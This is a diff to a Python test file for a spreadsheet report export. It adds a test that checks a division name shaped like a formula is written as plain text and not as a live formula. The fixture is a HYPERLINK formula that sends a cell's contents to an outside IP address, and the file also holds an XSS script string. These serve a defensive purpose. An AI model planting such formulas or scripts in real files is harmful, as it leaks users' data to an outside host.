@@ -29,6 +29,7 @@ from shared.pii import redact
 ID_NUMBER = re.compile(r"(?<!\d)\d{17}[\dXx](?!\d)|(?<!\d)\d{15}(?!\d)")
 MOBILE = re.compile(r"(?<!\d)1[3-9]\d{9}(?!\d)")
 EVIL = "<script>alert('x')</script>"
+FORMULA = '=HYPERLINK("http://198.51.100.7/?"&A2,"详情")'
 
 
 def figures_for(scope: str, as_of: datetime, seed: int = 0) -> Figures:
@@ -45,6 +46,7 @@ def figures_for(scope: str, as_of: datetime, seed: int = 0) -> Figures:
             "unit:U410303001": "西工区机关 410302195001010015",
             "unit:U410305001": "涧西区机关 13812348000",
             "community:410303001001": "王城社区",
+            "district:410304": FORMULA,
         }.get(scope, scope),
         members=n,
         reported_in=reported,
@@ -217,6 +219,18 @@ def test_no_cell_of_the_workbook_holds_an_unmasked_id_number_or_mobile() -> None
             for value in row:
                 if isinstance(value, str):
                     assert_no_personal_data(value, f"xlsx {sheet.title}")
+
+
+def test_a_name_that_starts_with_an_equals_sign_stays_words_in_the_workbook() -> None:
+    """A division named like a formula (typed into the directory) must not become one that
+    sends the sheet's rows away when a leader clicks it."""
+    data = report()
+    data.levels["district"].append((3, figures_for("district:410304", END)))
+    book = load_workbook(io.BytesIO(spreadsheet.workbook(data)))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    named = [c for c in cells if c.value == FORMULA]
+    assert named and all(c.data_type == "s" for c in named)
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
 
 
 # --- the charts ---------------------------------------------------------------------------
